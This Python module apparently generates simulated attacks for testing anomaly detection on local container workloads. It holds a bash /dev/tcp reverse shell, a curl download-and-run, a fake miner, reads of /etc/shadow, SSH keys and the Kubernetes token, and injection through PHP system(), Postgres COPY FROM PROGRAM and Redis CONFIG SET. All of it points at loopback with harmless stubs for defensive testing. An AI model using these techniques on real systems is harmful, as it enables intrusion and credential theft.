"""Acts that depart from a workload's profile. Each is harmless, reaches nothing but loopback, and takes back what it makes.

A line of shell comes through the workload's own hole where it has one, and else by exec; some acts are done inside of the service."""
import base64, os, socket, struct, threading, time

import load, pods

FILES, SHELL, OTHER = ("127.0.0.66", 18999), ("127.0.0.66", 18444), ("127.0.0.67", 18445)
# A port for each workload, since all share the host's network.
LISTEN = {name: 18660 + number for number, name in enumerate(("db", "cache", "app", "web", "node", "job", "unit"))}
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def nothing():
    """A program that ends at once with 0: ELF's headers, one segment, exit(2)."""
    code, machine = {"x86_64": (b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05\x90\x90\x90", 62),
                     "aarch64": (b"\x00\x00\x80\xd2\xa8\x0b\x80\xd2\x01\x00\x00\xd4", 183)}[os.uname().machine]
    size, place = 120 + len(code), 0x400000
    return (b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, place + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
            + struct.pack("<IIQQQQQQ", 1, 5, 0, place, place, size, size, 4096) + code)


PACKED = base64.b64encode(nothing()).decode()
# Lines of shell.
LINES = {
    "shell": "id; uname -a; cat /etc/passwd; ls -la /",
    "config dump": "env; cat /proc/self/environ; cat /workload/*; ls /etc",
    "dropped program": f"echo {PACKED} | base64 -d > /tmp/NAME; chmod 755 /tmp/NAME; /tmp/NAME; rm -f /tmp/NAME",
    "download and run": f"curl -s -o /var/tmp/NAME http://{FILES[0]}:{FILES[1]}/NAME; chmod 755 /var/tmp/NAME; /var/tmp/NAME; rm -f /var/tmp/NAME",
    "miner": "cp /usr/bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://127.0.0.66:3333 -u NAME; rm -f /tmp/xmrig",
    "reverse shell": f"bash -c 'bash -i >& /dev/tcp/{SHELL[0]}/{SHELL[1]} 0>&1'",
    "namespace": "unshare -Ur true",
    "trace": "python3 -c 'import ctypes,os,signal,time; p=os.fork(); p or time.sleep(5); c=ctypes.CDLL(None); c.ptrace(16,p,0,0); os.waitpid(p,0); "
             "os.kill(p,signal.SIGKILL)'",
    "read secrets": f"cat /etc/shadow {TOKEN}",
    "write": "echo '* * * * * root true' > /etc/NAME; rm -f /etc/NAME",
    "new destination": f"bash -c ': > /dev/tcp/{OTHER[0]}/{OTHER[1]}'",
    "new port": "timeout 1 nc -l 127.0.0.1 LISTEN",
}
# What is done by exec, whatever the workload: for root alone, or another's act.
BY_EXEC = {"user change": "setpriv --reuid=65534 --clear-groups id", "exec into it": None}
ORDER = ["read secrets", "write", "new destination", "new port", "config dump", "shell", "dropped program", "download and run", "miner",
         "reverse shell", "namespace", "trace", "user change", "exec into it"]
# Done by the service itself, without another program.
PYTHON = {
    "read secrets": f"""
for path in ("/etc/shadow", "{TOKEN}", "/root/.ssh/id_rsa"):
    try: open(path).read()
    except OSError: pass""",
    "write": "import os; open('PLACE/NAME', 'w').write('x'); os.unlink('PLACE/NAME')",
    "new destination": f"import socket; socket.create_connection({OTHER!r}, 2).close()",
    "new port": "import socket; s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(('127.0.0.1', LISTEN)); s.listen(1); s.close()",
}
INSIDE = {
    "web": {
        "read secrets": f"@file_get_contents('/etc/shadow'); file_get_contents('{TOKEN}');",
        "write": "file_put_contents('/var/www/shop/NAME.php', '<?php'); unlink('/var/www/shop/NAME.php');",
        "new destination": f"fclose(fsockopen('{OTHER[0]}', {OTHER[1]}, $c, $t, 2));",
        "new port": "fclose(stream_socket_server('tcp://127.0.0.1:LISTEN'));",
    },
    "app": {name: text.replace("PLACE", "/srv/reports") for name, text in PYTHON.items()},
    "unit": {name: text.replace("PLACE", "/etc") for name, text in PYTHON.items()},
    "node": {
        "read secrets": f"try {{ fs.readFileSync('/etc/shadow') }} catch {{}} fs.readFileSync('{TOKEN}');",
        "write": "fs.writeFileSync('/srv/node/NAME.js', 'x'); fs.unlinkSync('/srv/node/NAME.js');",
        "new destination": f"require('net').connect({OTHER[1]}, '{OTHER[0]}', function () {{ this.destroy(); }});",
        "new port": "var s = require('net').createServer().listen(LISTEN, '127.0.0.1', () => s.close());",
    },
    "db": {
        "read secrets": f"SELECT pg_read_file('/etc/passwd'), pg_read_file('{TOKEN}')",
        "write": "COPY (SELECT 'x') TO '/var/lib/postgresql/.NAME'",
        "new destination": f"SELECT dblink_connect('host={OTHER[0]} port={OTHER[1]} connect_timeout=2')",
    },
}


class Attacker:
    def __init__(self, things, chance):
        self.things, self.chance, self.listeners = things, chance, []
        for address, answer in ((FILES, self.files), (SHELL, self.shell), (OTHER, self.other)):
            listener = socket.socket()
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind(address)
            listener.listen(16)
            self.listeners.append(listener)
            threading.Thread(target=self.serve, args=(listener, answer), daemon=True).start()

    def close(self):
        for listener in self.listeners:
            listener.close()

    def serve(self, listener, answer):
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            try:
                with connection:
                    connection.settimeout(3)
                    answer(connection)
            except OSError:
                pass

    def files(self, connection):
        connection.recv(4096)
        data = nothing()
        connection.sendall(f"HTTP/1.0 200 OK\r\nContent-Length: {len(data)}\r\n\r\n".encode() + data)

    def shell(self, connection):
        connection.sendall(b"id; ls /\n")
        time.sleep(0.5)
        connection.sendall(b"exit\n")
        while connection.recv(4096):
            pass

    def other(self, connection):
        time.sleep(0.2)

    def attack(self, name, act):
        """Does it; says how: inside, through the hole, or by exec."""
        word = load.word(self.chance, 8, 8)
        inside = INSIDE.get(name, {}).get(act)
        if inside:
            self.through(name, inside.replace("NAME", word).replace("LISTEN", str(LISTEN[name])))
            return "inside"
        if name == "cache" and act in ("write", "new destination", "new port"):
            self.redis(act, word)
            return "inside"
        if act in BY_EXEC:
            return self.execute(name, BY_EXEC[act])
        line = LINES[act].replace("NAME", word).replace("LISTEN", str(LISTEN[name]))
        if act == "config dump":
            line = {"cache": "redis-cli -p 18379 config get '*'", "db": "pg_dumpall -h 127.0.0.1 -p 18432 -U postgres"}.get(name, line)
        if name == "cache":
            return self.execute(name, line)
        self.through(name, self.wrapped(name, line))
        return "hole"

    def wrapped(self, name, line):
        quoted = "'" + line.replace("\\", "\\\\").replace("'", "\\'") + "'"
        return {"web": f"system({quoted});", "app": f"import subprocess; subprocess.run({line!r}, shell=True, timeout=8)",
                "unit": f"import subprocess; subprocess.run({line!r}, shell=True, timeout=8)",
                "node": f"require('child_process').exec({quoted}, () => {{}});", "job": line + "\n",
                "db": "COPY pg_temp.told FROM PROGRAM '( " + line.replace("'", "''") + " ) | wc -c'"}[name]

    def through(self, name, text):
        if name == "web":
            load.ask(18080, "POST", "/admin.php", "c=" + "".join(f"%{byte:02x}" for byte in text.encode()),
                     {"Content-Type": "application/x-www-form-urlencoded"})
        elif name in ("app", "node"):
            load.ask({"app": 18081, "node": 18082}[name], "POST", "/debug", text.encode())
        elif name == "unit":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.sendto(f"debug {text}".encode(), ("127.0.0.1", 18514))
        elif name == "job":
            path = f"{pods.HOME}/inbox/settings"
            with open(path + ".new", "w") as file:
                file.write(text)
            os.rename(path + ".new", path)
            time.sleep(4)
        elif name == "db":
            # Through the connection of a client that knows the password, as by SQL that was slipped in.
            self.sql((["CREATE TEMP TABLE told (line text)"] if "pg_temp" in text else []) + [text])

    def sql(self, statements):
        """PostgreSQL's protocol 3, the simple query."""
        with socket.create_connection(("127.0.0.1", 18432), 10) as connection:
            body = b"\0\3\0\0user\0postgres\0database\0shop\0\0"
            connection.sendall((len(body) + 4).to_bytes(4, "big") + body)
            for statement in statements:
                text = statement.encode() + b"\0"
                connection.sendall(b"Q" + (len(text) + 4).to_bytes(4, "big") + text)
            connection.sendall(b"X\0\0\0\4")
            connection.settimeout(10)
            while connection.recv(65536):
                pass

    def redis(self, act, word):
        lines = {"write": [("CONFIG", "SET", "dir", "/var/log/redis"), ("CONFIG", "SET", "dbfilename", f"{word}.so"), ("SAVE",),
                           ("CONFIG", "SET", "dir", "/var/lib/redis"), ("CONFIG", "SET", "dbfilename", "dump.rdb")],
                 "new destination": [("REPLICAOF", OTHER[0], OTHER[1])],
                 "new port": [("CONFIG", "SET", "port", LISTEN["cache"])]}[act]
        for line in lines:
            load.redis(*line)
        time.sleep(1.5)
        if act == "new destination":
            load.redis("REPLICAOF", "NO", "ONE")
        if act == "new port":
            with socket.create_connection(("127.0.0.1", LISTEN["cache"]), 5) as connection:
                connection.sendall(b"CONFIG SET port 18379\r\n")
                connection.recv(100)

    def execute(self, name, line):
        if name == "unit":
            # What comes into a service so is root's doing beside it: by its control group.
            words = ["bash", "-c", "whoami; ls /root"] if line is None else ["sh", "-c", line]
            pods.start_unit(words, open(os.devnull, "w")).wait(10)
            return "beside"
        container = self.things.containers[name]
        self.things.runtime.execute(container, ["bash", "-c", "whoami; ls -la /root; cat ~/.bash_history"] if line is None else ["sh", "-c", line])
        return "exec"
